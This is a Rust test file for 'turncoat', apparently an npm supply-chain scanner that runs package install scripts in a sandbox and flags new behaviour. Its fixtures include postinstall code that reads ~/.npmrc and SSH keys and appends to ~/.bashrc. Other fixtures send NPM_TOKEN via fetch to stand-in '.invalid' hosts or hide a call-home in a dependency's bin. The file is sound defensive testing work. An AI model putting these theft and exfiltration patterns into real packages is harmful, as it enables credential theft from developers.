//! `turncoat diff --detonate` end to end: the bundled demo world, and directory registries built
//! here (packuments, tarballs and lockfiles written by this test, in the layout `turncoat demo
//! --keep` produces) whose packages steal planted credentials, write shell start-up files and
//! call out over DNS in their postinstall — judged against what the version they replace did.
//! Also `turncoat explain` for the detonation codes.
//!
//! Hermetic: registries are `file://` directories, detonation runs with no network, and the only
//! names the packages ask for are under `.invalid` (the one connect is to the sandbox's own
//! loopback). Tests that run packages need `node` and `sh`, and skip with a message on stderr
//! when those are missing (`TURNCOAT_TEST_REQUIRE_TOOLS=1` turns the skip into a failure).

#![allow(
    clippy::print_stderr,
    reason = "a skipped test says why on stderr instead of passing silently"
)]

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::{Value, json};

mod common;

const BIN: &str = env!("CARGO_BIN_EXE_turncoat");
/// The clock every run sees: after every publish date below.
const NOW: &str = "2026-11-27T00:00:00Z";
/// Tarball URLs name the public registry, as in real lockfiles and the demo's; the registry
/// client maps that host to the `--registry` directory, so nothing is fetched from it.
const TARBALL_HOST: &str = "https://registry.npmjs.org";
const DETONATION_CODES: &[&str] = &[
    "detonation-canary-read",
    "detonation-network",
    "detonation-sensitive-read",
    "detonation-persistence",
    "detonation-refused",
];

use common::have_tools;

// ---------------------------------------------------------------------------------------
// Running the binary

/// A scratch directory: `home` (HOME), `tmp` (TMPDIR), `cache` (--cache-dir), and whatever
/// registry and lockfiles the test writes.
struct World {
    dir: tempfile::TempDir,
}

/// One finished run of `turncoat`.
struct Run {
    args: Vec<String>,
    out: Output,
}

impl Run {
    fn stdout(&self) -> String {
        String::from_utf8_lossy(&self.out.stdout).into_owned()
    }

    fn stderr(&self) -> String {
        String::from_utf8_lossy(&self.out.stderr).into_owned()
    }

    /// Everything needed to see why an assertion failed.
    fn report(&self) -> String {
        format!(
            "\n--- turncoat {}\n--- exit status: {:?}\n--- stdout\n{}\n--- stderr\n{}\n",
            self.args.join(" "),
            self.out.status,
            self.stdout(),
            self.stderr()
        )
    }

    #[track_caller]
    fn assert_exit(&self, code: i32) {
        assert_eq!(
            self.out.status.code(),
            Some(code),
            "exit status{}",
            self.report()
        );
    }

    /// stdout as the JSON report.
    #[track_caller]
    fn json(&self) -> Value {
        serde_json::from_slice(&self.out.stdout)
            .unwrap_or_else(|e| panic!("stdout is not JSON ({e}){}", self.report()))
    }
}

impl World {
    fn new() -> World {
        let dir = tempfile::tempdir().expect("tempdir");
        for sub in ["home", "tmp", "cache"] {
            std::fs::create_dir_all(dir.path().join(sub)).expect("mkdir");
        }
        World { dir }
    }

    fn root(&self) -> &Path {
        self.dir.path()
    }

    /// `turncoat <args>` with nothing from the test's environment but PATH, and the clock
    /// pinned.
    fn run(&self, args: &[&str]) -> Run {
        let out = Command::new(BIN)
            .args(args)
            .current_dir(self.root())
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", self.root().join("home"))
            .env("TMPDIR", self.root().join("tmp"))
            .env("NO_COLOR", "1")
            .env("TURNCOAT_NOW", NOW)
            .stdin(Stdio::null())
            .output()
            .expect("run turncoat");
        let run = Run {
            args: args.iter().map(|a| (*a).to_string()).collect(),
            out,
        };
        if std::env::var_os("TURNCOAT_DETONATE_TEST_DUMP").is_some() {
            eprintln!("{}", run.report());
        }
        run
    }

    /// `turncoat diff BASE HEAD --registry file://REGISTRY --cache-dir CACHE --format json`,
    /// plus `--detonate` when asked.
    fn diff(&self, base: &Path, head: &Path, registry: &Path, detonate: bool) -> Run {
        let registry = format!("file://{}", path_str(registry));
        let cache = self.root().join("cache");
        let mut args = vec![
            "diff",
            path_str(base),
            path_str(head),
            "--registry",
            &registry,
            "--cache-dir",
            path_str(&cache),
            "--format",
            "json",
            "--quiet",
        ];
        if detonate {
            args.push("--detonate");
        }
        self.run(&args)
    }
}

fn path_str(p: &Path) -> &str {
    p.to_str().expect("temporary paths are UTF-8")
}

// ---------------------------------------------------------------------------------------
// Reading the JSON report

/// The report's entry for `name`.
#[track_caller]
fn package<'a>(report: &'a Value, name: &str, run: &Run) -> &'a Value {
    report["packages"]
        .as_array()
        .and_then(|ps| ps.iter().find(|p| p["name"] == name))
        .unwrap_or_else(|| panic!("no package {name} in the report{}", run.report()))
}

fn findings(pkg: &Value) -> &[Value] {
    pkg["findings"].as_array().map_or(&[], Vec::as_slice)
}

fn codes(pkg: &Value) -> Vec<&str> {
    findings(pkg)
        .iter()
        .filter_map(|f| f["code"].as_str())
        .collect()
}

fn finding<'a>(pkg: &'a Value, code: &str) -> Option<&'a Value> {
    findings(pkg).iter().find(|f| f["code"] == code)
}

/// `(path, snippet)` of every evidence item of a finding.
fn evidence(f: &Value) -> Vec<(&str, &str)> {
    f["evidence"]
        .as_array()
        .map(|es| {
            es.iter()
                .map(|e| {
                    (
                        e["path"].as_str().unwrap_or(""),
                        e["snippet"].as_str().unwrap_or(""),
                    )
                })
                .collect()
        })
        .unwrap_or_default()
}

// ---------------------------------------------------------------------------------------
// A directory registry and lockfiles

/// A packed package version, as `npm pack` makes it.
struct Pkg {
    name: String,
    version: String,
    manifest: Value,
    files: usize,
    unpacked: usize,
    tgz: Vec<u8>,
    integrity: String,
    shasum: String,
    published: String,
}

impl Pkg {
    /// Pack `files` (package-relative path, text) under `package/`; `manifest` becomes
    /// package.json with `name` and `version` filled in.
    fn new(
        name: &str,
        version: &str,
        published: &str,
        manifest: Value,
        files: &[(&str, &str)],
    ) -> Pkg {
        let mut manifest = manifest;
        manifest["name"] = json!(name);
        manifest["version"] = json!(version);
        let mut all: BTreeMap<String, Vec<u8>> = files
            .iter()
            .map(|(p, d)| ((*p).to_string(), d.as_bytes().to_vec()))
            .collect();
        all.insert(
            "package.json".into(),
            serde_json::to_vec_pretty(&manifest).expect("manifest"),
        );
        let common::Packed {
            tgz,
            integrity,
            shasum,
        } = common::pack(&all);
        Pkg {
            name: name.into(),
            version: version.into(),
            manifest,
            files: all.len(),
            unpacked: all.values().map(Vec::len).sum(),
            tgz,
            integrity,
            shasum,
            published: published.into(),
        }
    }

    fn file_name(&self) -> String {
        format!("{}-{}.tgz", self.name, self.version)
    }

    fn resolved(&self) -> String {
        format!("{TARBALL_HOST}/{}/-/{}", self.name, self.file_name())
    }

    fn has_install_script(&self) -> bool {
        ["preinstall", "install", "postinstall"]
            .iter()
            .any(|s| self.manifest["scripts"].get(s).is_some())
    }
}

/// Write `pkgs` as a directory registry below `root`: `<name>/index.json` (the packument, in
/// the shape `turncoat demo --keep` writes) and `<name>/-/<name>-<version>.tgz`.
fn write_registry(root: &Path, pkgs: &[&Pkg]) {
    let mut by_name: BTreeMap<&str, Vec<&Pkg>> = BTreeMap::new();
    for p in pkgs {
        by_name.entry(&p.name).or_default().push(p);
    }
    let maintainer = json!({"name": "ola-b", "email": "ola@example.com"});
    for (name, versions) in by_name {
        let dir = root.join(name);
        std::fs::create_dir_all(dir.join("-")).expect("mkdir registry");
        let mut vmap = serde_json::Map::new();
        let mut time = serde_json::Map::new();
        for p in &versions {
            std::fs::write(dir.join("-").join(p.file_name()), &p.tgz).expect("tarball");
            let mut doc = p.manifest.clone();
            doc["_id"] = json!(format!("{}@{}", p.name, p.version));
            doc["dist"] = json!({
                "tarball": p.resolved(),
                "integrity": p.integrity,
                "shasum": p.shasum,
                "fileCount": p.files,
                "unpackedSize": p.unpacked,
            });
            doc["_npmUser"] = maintainer.clone();
            doc["maintainers"] = json!([maintainer]);
            vmap.insert(p.version.clone(), doc);
            time.insert(p.version.clone(), json!(p.published));
        }
        let first = versions.first().expect("a version");
        let last = versions.last().expect("a version");
        time.insert("created".into(), json!(first.published));
        time.insert("modified".into(), json!(last.published));
        let packument = json!({
            "_id": name,
            "name": name,
            "dist-tags": {"latest": last.version},
            "versions": vmap,
            "time": time,
            "maintainers": [maintainer],
        });
        std::fs::write(
            dir.join("index.json"),
            serde_json::to_vec_pretty(&packument).expect("packument"),
        )
        .expect("index.json");
    }
}

/// A package-lock.json (v3) in `dir` (created) with `pkgs` as the root's dependencies.
fn write_lockfile(dir: &Path, pkgs: &[&Pkg]) -> PathBuf {
    std::fs::create_dir_all(dir).expect("mkdir project");
    let deps: serde_json::Map<String, Value> = pkgs
        .iter()
        .map(|p| (p.name.clone(), json!(p.version)))
        .collect();
    let mut packages = serde_json::Map::new();
    packages.insert(
        String::new(),
        json!({"name": "detonate-app", "version": "1.0.0", "dependencies": deps}),
    );
    for p in pkgs {
        let mut e = json!({
            "version": p.version,
            "resolved": p.resolved(),
            "integrity": p.integrity,
        });
        if p.has_install_script() {
            e["hasInstallScript"] = json!(true);
        }
        packages.insert(format!("node_modules/{}", p.name), e);
    }
    let lock = json!({
        "name": "detonate-app", "version": "1.0.0",
        "lockfileVersion": 3, "requires": true,
        "packages": packages,
    });
    let manifest = json!({
        "name": "detonate-app", "version": "1.0.0", "private": true, "dependencies": deps,
    });
    let pretty = |v: &Value| format!("{}\n", serde_json::to_string_pretty(v).expect("json"));
    std::fs::write(dir.join("package.json"), pretty(&manifest)).expect("package.json");
    let path = dir.join("package-lock.json");
    std::fs::write(&path, pretty(&lock)).expect("lockfile");
    path
}

/// A package with an entry point and, when `postinstall` is given, a `postinstall.js` that
/// `node` runs as the postinstall hook.
fn simple(name: &str, version: &str, published: &str, postinstall: Option<&str>) -> Pkg {
    let mut manifest = json!({"main": "index.js", "license": "MIT"});
    let index = format!("module.exports = () => '{name} {version}';\n");
    let mut files = vec![("index.js", index.as_str())];
    if let Some(js) = postinstall {
        manifest["scripts"] = json!({"postinstall": "node postinstall.js"});
        files.push(("postinstall.js", js));
    }
    Pkg::new(name, version, published, manifest, &files)
}

/// A postinstall that resolves `name` and waits for the answer (NXDOMAIN in the sandbox).
fn resolve_js(name: &str) -> String {
    format!(
        "'use strict';\n\
         const t = setTimeout(() => process.exit(0), 5000);\n\
         require('dns').resolve4('{name}', () => {{ clearTimeout(t); }});\n"
    )
}

// ---------------------------------------------------------------------------------------
// a. The demo world

#[test]
fn the_demo_world_is_blocked_by_detonation_only_with_the_flag() {
    if !have_tools("demo_world", &["node", "sh"]) {
        return;
    }
    let world = World::new();
    let demo = world.root().join("demo");
    // Materialise only: detonation is what the diffs below are about.
    let kept = world.run(&[
        "demo",
        "--keep",
        path_str(&demo),
        "--no-detonate",
        "--quiet",
    ]);
    kept.assert_exit(0);
    let base = demo.join("base/package-lock.json");
    let head = demo.join("head/package-lock.json");
    let registry = demo.join("registry");
    for p in [&base, &head, &registry.join("tiny-case/index.json")] {
        assert!(
            p.is_file(),
            "{} was not written{}",
            p.display(),
            kept.report()
        );
    }

    let run = world.diff(&base, &head, &registry, true);
    let r = run.report();
    run.assert_exit(1);
    let report = run.json();

    let sds = package(&report, "secure-data-sanitizer", &run);
    assert_eq!(sds["verdict"], "block", "{r}");
    let net = finding(sds, "detonation-network")
        .unwrap_or_else(|| panic!("no detonation-network finding for secure-data-sanitizer{r}"));
    assert_eq!(net["level"], "deny", "{net:#}");
    let ev = evidence(net);
    assert!(
        !ev.is_empty(),
        "detonation-network has no evidence: {net:#}"
    );
    assert!(
        ev.iter()
            .any(|(path, snippet)| *path == "detonation:postinstall"
                && snippet.contains(".exfil.invalid")),
        "no evidence naming detonation:postinstall and .exfil.invalid: {net:#}"
    );
    // Everything it tried to reach is the exfiltration channel.
    assert!(
        ev.iter()
            .all(|(_, snippet)| snippet.contains(".exfil.invalid")),
        "evidence other than the .exfil.invalid lookups: {net:#}"
    );
    assert!(
        net["message"]
            .as_str()
            .is_some_and(|m| m.contains("postinstall")),
        "{net:#}"
    );

    let tiny = package(&report, "tiny-case", &run);
    assert_eq!(tiny["verdict"], "pass", "{r}");
    let tiny_det: Vec<&str> = codes(tiny)
        .into_iter()
        .filter(|c| c.starts_with("detonation-"))
        .collect();
    assert!(
        tiny_det.is_empty(),
        "the benign update has detonation findings {tiny_det:?}{r}"
    );

    // The same diff without the flag: the static rules still block, but nothing was run.
    let plain = world.diff(&base, &head, &registry, false);
    let pr = plain.report();
    plain.assert_exit(1);
    let plain_report = plain.json();
    let plain_sds = package(&plain_report, "secure-data-sanitizer", &plain);
    assert_eq!(plain_sds["verdict"], "block", "{pr}");
    for pkg in plain_report["packages"].as_array().expect("packages") {
        let det: Vec<&str> = codes(pkg)
            .into_iter()
            .filter(|c| c.starts_with("detonation-"))
            .collect();
        assert!(
            det.is_empty(),
            "{} has {det:?} without --detonate{pr}",
            pkg["name"]
        );
    }
}

// ---------------------------------------------------------------------------------------
// b. A credential thief

const STEAL_JS: &str = r#"'use strict';
// canary-thief 1.0.1 postinstall (turncoat test fixture): reads the user's registry token and
// SSH key, appends to ~/.bashrc, knocks on a loopback port and looks up a name under .invalid.
const fs = require('fs');
const os = require('os');
const path = require('path');
const home = os.homedir();
for (const f of ['.npmrc', path.join('.ssh', 'id_rsa')]) {
  try { fs.readFileSync(path.join(home, f), 'utf8'); } catch (e) {}
}
try { fs.appendFileSync(path.join(home, '.bashrc'), '\n# canary-thief was here\n'); } catch (e) {}
const s = require('net').connect(443, '127.0.0.1');
s.on('error', () => {});
const t = setTimeout(() => process.exit(0), 5000);
require('dns').resolve4('steal.exfil.invalid', () => { clearTimeout(t); process.exit(0); });
"#;

#[test]
fn a_new_version_that_steals_credentials_is_caught() {
    if !have_tools("canary_thief", &["node", "sh"]) {
        return;
    }
    let world = World::new();
    let registry = world.root().join("registry");
    let clean = simple("canary-thief", "1.0.0", "2026-03-02T10:00:00.000Z", None);
    // Same library code; only the hook and its script are added.
    let thief = Pkg::new(
        "canary-thief",
        "1.0.1",
        "2026-09-14T10:00:00.000Z",
        json!({"main": "index.js", "license": "MIT", "scripts": {"postinstall": "node steal.js"}}),
        &[
            ("index.js", "module.exports = () => 'canary-thief 1.0.0';\n"),
            ("steal.js", STEAL_JS),
        ],
    );
    write_registry(&registry, &[&clean, &thief]);
    let base = write_lockfile(&world.root().join("base"), &[&clean]);
    let head = write_lockfile(&world.root().join("head"), &[&thief]);

    let run = world.diff(&base, &head, &registry, true);
    let r = run.report();
    run.assert_exit(1);
    let report = run.json();
    let pkg = package(&report, "canary-thief", &run);
    assert_eq!(pkg["verdict"], "block", "{r}");
    assert_eq!(pkg["from"], "1.0.0", "{r}");
    assert_eq!(pkg["to"], "1.0.1", "{r}");
    // The report says what the detonation covered.
    let coverage = &pkg["detonation"];
    assert!(
        coverage["stages"].as_array().is_some_and(
            |s| s.iter().any(|x| x == "postinstall") && s.iter().any(|x| x == "require")
        ),
        "{coverage:#}"
    );
    assert_eq!(coverage["timed_out"], false, "{coverage:#}");
    assert!(
        coverage["events"].as_u64().is_some_and(|n| n > 0),
        "{coverage:#}"
    );
    assert_eq!(coverage["previous"], "1.0.0", "{coverage:#}");

    let canary = finding(pkg, "detonation-canary-read")
        .unwrap_or_else(|| panic!("no detonation-canary-read{r}"));
    let canary_ev = evidence(canary);
    for file in ["~/.npmrc", "~/.ssh/id_rsa"] {
        assert!(
            canary_ev
                .iter()
                .any(|(path, snippet)| *path == "detonation:postinstall" && snippet.contains(file)),
            "no postinstall canary-read evidence for {file}: {canary:#}"
        );
    }

    let persist = finding(pkg, "detonation-persistence")
        .unwrap_or_else(|| panic!("no detonation-persistence{r}"));
    assert!(
        evidence(persist)
            .iter()
            .any(|(path, snippet)| *path == "detonation:postinstall"
                && snippet.contains("~/.bashrc")),
        "no postinstall persistence evidence for ~/.bashrc: {persist:#}"
    );

    let net =
        finding(pkg, "detonation-network").unwrap_or_else(|| panic!("no detonation-network{r}"));
    let net_ev = evidence(net);
    assert!(
        net_ev
            .iter()
            .any(|(path, snippet)| *path == "detonation:postinstall"
                && snippet.contains("steal.exfil.invalid")),
        "no postinstall evidence for steal.exfil.invalid: {net:#}"
    );
    // The connect to 127.0.0.1:443 reached only the sandbox's own loopback: not the network.
    assert!(
        !net.to_string().contains("127.0.0.1"),
        "a sandbox-loopback connect counted as network: {net:#}"
    );

    // Nothing else the script did is a secret read or a refused call.
    for code in ["detonation-sensitive-read", "detonation-refused"] {
        assert!(finding(pkg, code).is_none(), "unexpected {code}{r}");
    }
}

/// A lockfile where `parent` depends on `dep` (both hoisted), as npm writes it.
fn write_lockfile_with_dep(dir: &Path, parent: &Pkg, dep: &Pkg) -> PathBuf {
    std::fs::create_dir_all(dir).expect("mkdir project");
    let mut p = json!({
        "version": parent.version,
        "resolved": parent.resolved(),
        "integrity": parent.integrity,
        "dependencies": { dep.name.clone(): dep.version.clone() },
    });
    if parent.has_install_script() {
        p["hasInstallScript"] = json!(true);
    }
    let lock = json!({
        "name": "detonate-app", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
        "packages": {
            "": {"name": "detonate-app", "version": "1.0.0", "dependencies": {parent.name.clone(): parent.version.clone()}},
            format!("node_modules/{}", parent.name): p,
            format!("node_modules/{}", dep.name): {
                "version": dep.version, "resolved": dep.resolved(), "integrity": dep.integrity,
            },
        },
    });
    let manifest = json!({"name": "detonate-app", "version": "1.0.0", "private": true,
        "dependencies": {parent.name.clone(): parent.version.clone()}});
    std::fs::write(
        dir.join("package.json"),
        serde_json::to_string_pretty(&manifest).unwrap(),
    )
    .unwrap();
    let path = dir.join("package-lock.json");
    std::fs::write(&path, serde_json::to_string_pretty(&lock).unwrap()).unwrap();
    path
}

#[test]
fn dependencies_are_installed_so_scripts_reach_their_tools() {
    if !have_tools("dependencies_installed", &["node", "sh"]) {
        return;
    }
    let world = World::new();
    let registry = world.root().join("registry");
    // The payload sits in an unchanged dependency's `bin`; the update starts running it.
    let dep = Pkg::new(
        "helper-dep",
        "1.0.0",
        "2026-01-05T10:00:00.000Z",
        json!({"main": "index.js", "license": "MIT", "bin": {"helper-tool": "tool.js"}}),
        &[
            ("index.js", "module.exports = 1;\n"),
            ("tool.js", &resolve_js("viadep.exfil.invalid")),
        ],
    );
    let quiet = Pkg::new(
        "uses-helper",
        "1.0.0",
        "2026-02-01T10:00:00.000Z",
        json!({"main": "index.js", "license": "MIT", "dependencies": {"helper-dep": "1.0.0"}}),
        &[("index.js", "module.exports = require('helper-dep');\n")],
    );
    let loud = Pkg::new(
        "uses-helper",
        "1.0.1",
        "2026-09-01T10:00:00.000Z",
        json!({"main": "index.js", "license": "MIT", "dependencies": {"helper-dep": "1.0.0"},
               "scripts": {"postinstall": "helper-tool"}}),
        &[("index.js", "module.exports = require('helper-dep');\n")],
    );
    write_registry(&registry, &[&dep, &quiet, &loud]);
    let base = write_lockfile_with_dep(&world.root().join("base"), &quiet, &dep);
    let head = write_lockfile_with_dep(&world.root().join("head"), &loud, &dep);
    let run = world.diff(&base, &head, &registry, true);
    let r = run.report();
    let report = run.json();
    let pkg = package(&report, "uses-helper", &run);
    let net = finding(pkg, "detonation-network")
        .unwrap_or_else(|| panic!("the dependency's tool did not run: no detonation-network{r}"));
    assert!(
        evidence(net)
            .iter()
            .any(|(path, snippet)| *path == "detonation:postinstall"
                && snippet.contains("viadep.exfil.invalid")),
        "{net:#}"
    );
}

// ---------------------------------------------------------------------------------------
// c. Judged against history

#[test]
fn behaviour_the_previous_version_had_is_not_reported() {
    if !have_tools("history_relative", &["node", "sh"]) {
        return;
    }
    let world = World::new();
    let registry = world.root().join("registry");
    let telemetry = resolve_js("telemetry.example.invalid");
    let always_old = simple(
        "always-calls-home",
        "1.0.0",
        "2026-03-02T10:00:00.000Z",
        Some(&telemetry),
    );
    let always_new = simple(
        "always-calls-home",
        "1.0.1",
        "2026-09-14T10:00:00.000Z",
        Some(&telemetry),
    );
    let ping = resolve_js("hello.newly-calls-home.invalid");
    let newly_old = simple(
        "newly-calls-home",
        "1.0.0",
        "2026-03-02T10:00:00.000Z",
        None,
    );
    let newly_new = simple(
        "newly-calls-home",
        "1.0.1",
        "2026-09-14T10:00:00.000Z",
        Some(&ping),
    );
    write_registry(
        &registry,
        &[&always_old, &always_new, &newly_old, &newly_new],
    );
    let base = write_lockfile(&world.root().join("base"), &[&always_old, &newly_old]);
    let head = write_lockfile(&world.root().join("head"), &[&always_new, &newly_new]);

    let run = world.diff(&base, &head, &registry, true);
    let r = run.report();
    let report = run.json();

    let always = package(&report, "always-calls-home", &run);
    assert_eq!(always["to"], "1.0.1", "{r}");
    let always_det: Vec<&str> = codes(always)
        .into_iter()
        .filter(|c| c.starts_with("detonation-"))
        .collect();
    assert!(
        always_det.is_empty(),
        "always-calls-home did nothing 1.0.0 did not, yet has {always_det:?}{r}"
    );

    let newly = package(&report, "newly-calls-home", &run);
    let net = finding(newly, "detonation-network")
        .unwrap_or_else(|| panic!("no detonation-network for newly-calls-home{r}"));
    assert!(
        evidence(net)
            .iter()
            .any(|(path, snippet)| *path == "detonation:postinstall"
                && snippet.contains("hello.newly-calls-home.invalid")),
        "{net:#}"
    );
    assert_eq!(newly["verdict"], "block", "{r}");
    run.assert_exit(1);

    // Control: where 1.0.1 has no history at all (the only version its registry serves, added
    // as a new dependency), its lookup is reported, so the silence above is history, not a
    // lookup the sandbox missed. A world of its own: nothing cached from the registry above.
    let alone = World::new();
    let alone_registry = alone.root().join("registry");
    write_registry(&alone_registry, &[&always_new]);
    let fresh_base = write_lockfile(&alone.root().join("base"), &[]);
    let fresh_head = write_lockfile(&alone.root().join("head"), &[&always_new]);
    let fresh = alone.diff(&fresh_base, &fresh_head, &alone_registry, true);
    let fr = fresh.report();
    let fresh_report = fresh.json();
    let added = package(&fresh_report, "always-calls-home", &fresh);
    let added_net = finding(added, "detonation-network")
        .unwrap_or_else(|| panic!("no detonation-network for a newly added always-calls-home{fr}"));
    assert!(
        evidence(added_net)
            .iter()
            .any(|(_, snippet)| snippet.contains("telemetry.example.invalid")),
        "{added_net:#}"
    );
}

/// Calls made when the package is loaded, not installed: `fetch`, `dns.resolve4` and
/// `dns.lookup` at `require` time (an injected runtime payload, no install hook at all).
#[test]
fn calls_made_at_require_time_are_recorded() {
    if !have_tools("require_time", &["node", "sh"]) {
        return;
    }
    let world = World::new();
    let registry = world.root().join("registry");
    let clean = simple("loads-and-calls", "1.0.0", "2026-03-02T10:00:00.000Z", None);
    let payload = "'use strict';\n\
         module.exports = () => 'loads-and-calls 1.0.0';\n\
         const dns = require('dns');\n\
         const t = setTimeout(() => {}, 3000);\n\
         dns.resolve4('resolve.load-time.invalid', () => {});\n\
         dns.lookup('lookup.load-time.invalid', () => {});\n\
         fetch('https://fetch.load-time.invalid/x?k=' + (process.env.NPM_TOKEN || '')).catch(() => {}).finally(() => clearTimeout(t));\n";
    let injected = Pkg::new(
        "loads-and-calls",
        "1.0.1",
        "2026-09-14T10:00:00.000Z",
        json!({"main": "index.js", "license": "MIT"}),
        &[("index.js", payload)],
    );
    write_registry(&registry, &[&clean, &injected]);
    let base = write_lockfile(&world.root().join("base"), &[&clean]);
    let head = write_lockfile(&world.root().join("head"), &[&injected]);
    let run = world.diff(&base, &head, &registry, true);
    let r = run.report();
    let report = run.json();
    let pkg = package(&report, "loads-and-calls", &run);
    let net =
        finding(pkg, "detonation-network").unwrap_or_else(|| panic!("no detonation-network{r}"));
    let ev = evidence(net);
    for name in [
        "resolve.load-time.invalid",
        "lookup.load-time.invalid",
        "fetch.load-time.invalid",
    ] {
        assert!(
            ev.iter()
                .any(|(path, snippet)| path.starts_with("detonation:require")
                    && snippet.contains(name)),
            "no require-time evidence for {name}: {net:#}{r}"
        );
    }
    assert_eq!(pkg["verdict"], "block", "{r}");
}

// ---------------------------------------------------------------------------------------
// d. explain

#[test]
fn explain_documents_every_detonation_code() {
    let world = World::new();
    let one = world.run(&["explain", "detonation-network"]);
    one.assert_exit(0);
    let text = one.stdout();
    assert!(
        text.starts_with("# detonation-network"),
        "no heading{}",
        one.report()
    );
    for part in ["## What it flags", "## Why it matters", "--detonate"] {
        assert!(text.contains(part), "no {part:?}{}", one.report());
    }

    let list = world.run(&["explain", "--list"]);
    list.assert_exit(0);
    let listed = list.stdout();
    for code in DETONATION_CODES {
        let line = listed
            .lines()
            .find(|l| l.split_whitespace().next() == Some(code))
            .unwrap_or_else(|| panic!("{code} is not listed{}", list.report()));
        assert!(line.contains("sandbox"), "{code}: no summary in {line:?}");
        // Each one is documented on its own too.
        let doc = world.run(&["explain", code]);
        doc.assert_exit(0);
        assert!(
            doc.stdout().starts_with(&format!("# {code}")),
            "{}",
            doc.report()
        );
    }
}
